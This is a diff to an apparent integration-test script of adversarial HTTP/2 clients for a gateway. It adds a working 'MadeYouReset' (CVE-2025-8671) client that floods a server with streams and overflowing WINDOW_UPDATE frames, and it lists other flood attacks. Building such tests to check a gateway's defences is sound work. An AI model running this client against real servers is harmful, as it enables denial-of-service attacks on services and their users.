@@ -2,7 +2,7 @@
 """Adversarial HTTP/2 clients for AssertGate's integration tests.
 
 usage: h2_attack.py PORT ATTACK
-ATTACK: rapid-reset | continuation-flood | huge-headers | settings-flood | ping-flood | empty-data-flood
+ATTACK: rapid-reset | made-you-reset | continuation-flood | huge-headers | settings-flood | ping-flood | empty-data-flood
 
 Exit status 0 when the gateway defended itself (GOAWAY, RST_STREAM or a closed
 connection before the attack could complete), 1 when it did not, 2 on setup errors.
@@ -14,7 +14,7 @@ import time
 
 import hpack
 from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
-                              RstStreamFrame, SettingsFrame)
+                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
@@ -121,6 +121,33 @@ def rapid_reset(port):
     return r.verdict("rapid-reset")
 
 
+def made_you_reset(port):
+    """MadeYouReset (CVE-2025-8671): the client never sends RST_STREAM; it makes
+    the server reset each stream instead, with a WINDOW_UPDATE that takes the
+    stream's window past 2^31-1 (FLOW_CONTROL_ERROR, a stream error; nghttp2
+    1.52 answers most other such errors with GOAWAY). Each request has been
+    started by then. Like
+    rapid-reset, only GOAWAY or a close counts as a defence."""
+    s = connect(port)
+    r = Reader(s)
+    enc = hpack.Encoder()
+    sid = 1
+    for batch in range(100):
+        out = b""
+        for _ in range(100):
+            out += HeadersFrame(sid, request_block(enc, "/hello"), flags=["END_HEADERS", "END_STREAM"]).serialize()
+            out += WindowUpdateFrame(sid, window_increment=0x7fffffff).serialize()
+            sid += 2
+        if not r.send(out):
+            break
+        r.pump(0.01)
+        if r.goaway is not None or r.closed:
+            break
+    r.pump(3)
+    r.resets = {}
+    return r.verdict("made-you-reset")
+
+
 def continuation_flood(port):
     s = connect(port)
     r = Reader(s)
@@ -206,6 +233,7 @@ def empty_data_flood(port):
 
 ATTACKS = {
     "rapid-reset": rapid_reset,
+    "made-you-reset": made_you_reset,
     "continuation-flood": continuation_flood,
     "huge-headers": huge_headers,
     "settings-flood": settings_flood,
